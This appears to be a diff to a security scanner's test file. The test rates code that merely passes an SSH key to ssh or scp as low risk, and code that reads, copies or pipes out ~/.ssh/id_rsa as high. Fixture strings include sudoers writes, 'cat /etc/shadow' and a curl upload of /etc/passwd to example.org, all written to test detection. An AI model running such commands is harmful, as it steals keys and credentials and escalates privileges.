@@ -159,3 +159,25 @@ test('a command that writes rights is a hint where nothing is started, as descri
   for (const text of ["'/etc/sudoers.d/runner'", "'cat /etc/sudoers'", "'echo x > /etc/sudoers.d/x; cat /etc/shadow'", "'echo x > /etc/sudoers.d/x; curl -F f=@/etc/passwd https://example.org'", "'tee -a /etc/sudoers'"]) assert.equal(worst(`run(${text})`), 'high', text);
   assert.equal(worst(`import os\nos.system(${command})`, 'a.py'), 'high');
 });
+
+test('low: a key that SSH is told to log in with; bad: one that is read, printed, copied or sent as well', () => {
+  const script = (more: string, list = '["-i", options.identity, "-o", "BatchMode=yes", target]') => `const { spawnSync } = require("child_process"); const fs = require("fs"), path = require("path"), { homedir } = require("os");\noptions.identity = (options.identity || "~/.ssh/id_ed25519").replace(/^~/, homedir());\nspawnSync("ssh", ${list}); ${more}`;
+  for (const code of [
+    script(''),
+    script('').replace(/options\.identity = .*/, 'options.identity ??= path.join(homedir(), ".ssh", "id_rsa");'),
+    'require("child_process").spawn("scp", ["-i", require("path").join(home, ".ssh", "id_rsa"), "dist.tgz", target])',
+    'const { execSync } = require("child_process"); execSync(`ssh -i ${home}/.ssh/id_rsa ${target} "systemctl restart app"`); execSync("rsync -az -e \'ssh -i ~/.ssh/id_rsa\' dist/ " + target)',
+  ]) assert.equal(worst(code), 'low', code);
+  for (const code of [
+    script('show(fs.readFileSync(options.identity, "utf8"))'),
+    script('const { identity } = options; fs.copyFileSync(identity, "/tmp/x")'),
+    script('fetch(u, { method: "POST", body: x })'),
+    script('', '["-i", other, target]'),
+    script('', '["-i", other, options.identity, target]'),
+    script('').replace(/options\.identity = .*/, 'options.identity = fs.readFileSync(path.join(homedir(), ".ssh", "id_rsa"));'),
+    'require("child_process").spawn("scp", ["-i", other, require("path").join(home, ".ssh", "id_rsa"), target])',
+    'require("child_process").execSync(`scp -i ${home}/.ssh/id_rsa ${home}/.ssh/id_rsa ${target}:`)',
+    'require("child_process").execSync("cat ~/.ssh/id_rsa | ssh -i ~/.ssh/id_rsa " + target)',
+    'require("child_process").execSync("cat ~/.ssh/id_rsa")',
+  ]) assert.equal(worst(code), 'high', code);
+});
